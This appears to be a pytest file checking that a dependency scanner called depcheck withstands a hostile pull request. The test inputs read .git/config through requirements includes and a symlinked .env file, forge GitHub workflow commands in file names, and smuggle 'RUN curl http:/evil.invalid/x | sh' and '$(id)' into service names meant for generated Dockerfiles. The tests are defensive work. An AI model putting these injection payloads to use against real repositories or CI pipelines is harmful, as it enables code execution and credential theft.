"""A stranger's pull request: no secret leaves `.git/`, no forged workflow command, no injected
line in a generated file (issue: "Safe on a stranger's pull request").

Each repository here is built the way a hostile contributor would, in a real git checkout where
it matters (`actions/checkout` leaves the job's token in `.git/config` as an `extraheader`), and
scanned through `depcheck.cli.main` in every output depcheck has (`untrusted.every_output`).
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.robustness.conftest import HEALTHY, assert_no_traceback, write_files
from tests.robustness.untrusted import every_output, forged_commands

TOKEN = "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OQ=="
GITHUB_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
EXTRAHEADER = f"AUTHORIZATION: basic {TOKEN}"


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)


def checkout(root: Path, files: dict[str, str]) -> Path:
    """A git repository as `actions/checkout` leaves it: the token in `.git/config`."""
    write_files(root, {**HEALTHY, **files})
    _git(root, "init", "-q")
    _git(root, "config", "http.https://github.com/.extraheader", EXTRAHEADER)
    _git(root, "config", "user.email", "x@example.invalid")
    _git(root, "config", "user.name", "x")
    return root


def assert_clean(outputs: list, *secrets: str) -> None:
    """No secret, no forged command, no traceback and no internal error in any output."""
    for output in outputs:
        assert output.code != 3, (output.command, output.err)
        for where, text in output.texts().items():
            assert_no_traceback(text)
            for secret in secrets:
                assert secret not in text, (output.command, where)
            if output.command.startswith("scan --format github") and where == "stdout":
                # its own lines are commands: each a known one, with nothing forged inside
                for line in text.splitlines()[:-1]:
                    assert line.startswith(("::error ", "::warning ", "::notice ")), line
                    assert "##[" not in line, line
                continue
            if where.endswith(".github"):
                continue
            assert forged_commands(text) == [], (output.command, where)


def test_an_include_of_git_config_leaks_no_token(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = checkout(
        tmp_path / "repo",
        {
            "api/requirements.txt": "urllib3<2\n-r ../.git/config\n",
            "web/requirements.txt": "urllib3>=2\n-c ../.git/config\n",
        },
    )
    outputs = every_output(root, tmp_path / "out", capsys)
    assert_clean(outputs, TOKEN, "c2VjcmV0")
    scan = next(o for o in outputs if o.command == "scan --format json")
    report = json.loads(scan.out)
    assert scan.code == 2
    # the include is refused or, at worst, quoted no further than its first bad token
    messages = [d["message"] for d in report["diagnostics"] if ".git" in d["source"] + d["message"]]
    assert messages, report["diagnostics"]


def test_an_env_file_linked_to_git_config_leaks_no_token(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = checkout(
        tmp_path / "repo",
        {
            "compose.yaml": (
                "services:\n  web:\n    build:\n      context: .\n"
                "      args:\n        PY: ${extraheader}\n"
            ),
            "Dockerfile": (
                "ARG PY\nFROM python:${PY}\nCOPY api/requirements.txt web/requirements.txt ./\n"
                "RUN pip install -r requirements.txt\n"
            ),
        },
    )
    os.symlink(".git/config", root / ".env")
    assert_clean(every_output(root, tmp_path / "out", capsys), TOKEN, "c2VjcmV0")


@pytest.mark.parametrize(
    "secret_line",
    [
        f"--index-url https://deploy:{GITHUB_TOKEN}@pypi.example.invalid/simple",
        f"--extra-index-url https://__token__:{TOKEN}@pypi.example.invalid/simple",
        "private @ https://user:hunter2hunter2@git.example.invalid/p.tar.gz#sha=1",
        f"-i https://pypi.example.invalid/simple?token={TOKEN}",
        f"broken==  # {GITHUB_TOKEN}",
        f"-r {GITHUB_TOKEN}.txt",
        "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123",
    ],
)
def test_credentials_in_requirements_files_are_redacted_everywhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], secret_line: str
) -> None:
    root = write_files(
        tmp_path / "repo",
        {**HEALTHY, "leaky/requirements.txt": f"{secret_line}\nurllib3==1.26.0\n"},
    )
    outputs = every_output(root, tmp_path / "out", capsys)
    assert_clean(outputs, GITHUB_TOKEN, TOKEN, "hunter2", "npm_abcdefghij")


# a fine-grained GitHub token (93 characters: longer than a line at every width), and one
# after words a line may break between
LONG_TOKEN = "github_pat_" + "11ABCDEFG0" + "Z9y8X7w6V5" * 8 + "u4T3"
HEADER = f"Authorization: Bearer {TOKEN}"


@pytest.mark.parametrize("value", [LONG_TOKEN, HEADER])
def test_a_credential_broken_over_lines_leaves_no_piece_of_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    # a marker's string is shown whole in `why`'s tree, where a long line is broken (and a
    # word longer than the line folded): each output redacts it before it breaks it
    root = write_files(
        tmp_path / "repo",
        {"api/requirements.txt": f"urllib3<2 ; platform_release == '{value}'\n"},
    )
    outputs = every_output(root, tmp_path / "out", capsys)
    secret = LONG_TOKEN.removeprefix("github_pat_") if value == LONG_TOKEN else TOKEN
    pieces = {secret[i : i + 8] for i in range(len(secret) - 7)}
    shown = 0
    for output in outputs:
        assert output.code != 3, (output.command, output.err)
        for where, text in output.texts().items():
            assert not [p for p in pieces if p in text], (output.command, where)
            shown += "***" in text
    assert shown  # the marker was shown, redacted


FORGED = "::error title=Forged::x"
STOP = "##[stop-commands]abc"


def test_names_cannot_forge_workflow_commands(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_files(
        tmp_path / "repo",
        {
            **HEALTHY,
            f"{FORGED}/requirements.txt": "urllib3==1.0\n",
            f"x {STOP} ::warning::y/requirements.txt": "urllib3==1.1\n",
            "a\u2028::error::z/requirements.txt": "urllib3==1.2\n-r ##[group]g.txt\n",
            "d/requirements.txt": f"urllib3==1.3 ; platform_release == '{FORGED}'\n{STOP}==\n",
        },
    )
    outputs = every_output(root, tmp_path / "out", capsys)
    assert_clean(outputs)
    text = next(o for o in outputs if o.command == "scan --format text")
    assert "title=Forged" in text.out  # still named, only inert


def test_a_generated_compose_file_parses_and_holds_no_injected_instruction(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "a\\nRUN curl http:/evil.invalid/x | sh\\nUSER root"
    root = write_files(
        tmp_path / "repo",
        {
            "svc a\nRUN curl http:/evil.invalid/x | sh\nUSER root/requirements.txt": "urllib3<2\n",
            "b/requirements.txt": "urllib3>=2\n",
            "c\"$(id)'/requirements.txt": "urllib3<1.5\n",
            "depcheck.toml": (
                f'[services."{evil}"]\npath = "svc a\\nRUN curl http:/evil.invalid/x | sh\\n'
                'USER root"\n[services.b]\npath = "b"\n'
                '[services."c\\"$(id)\'"]\npath = "c\\"$(id)\'"\n'
                f'[hosts."h\\n  evil: 1\\n#"]\nservices = ["{evil}", "b", "c\\"$(id)\'"]\n'
            ),
        },
    )
    outputs = every_output(root, tmp_path / "out", capsys)
    assert_clean(outputs)
    plan = next(o for o in outputs if o.command == "plan --emit compose")
    assert plan.code == 1, plan.err
    compose = yaml.safe_load(plan.files["compose.yaml"])
    assert set(compose) == {"services"}
    for service in compose["services"].values():
        assert set(service) == {"build", "labels"}
    sketches = [text for name, text in plan.files.items() if name.endswith(".Dockerfile")]
    assert len(sketches) >= 2
    for sketch in sketches:
        for line in sketch.splitlines():
            instruction = line.split(" ", 1)[0]
            assert instruction in ("#", "FROM", "WORKDIR", "COPY", "RUN"), line
            assert not line.startswith(("USER", "RUN curl")), line
            if instruction == "RUN":
                assert line.startswith(("RUN pip install", 'RUN ["pip", "install"')), line
            assert "$(id)" not in line or line.startswith("#"), line
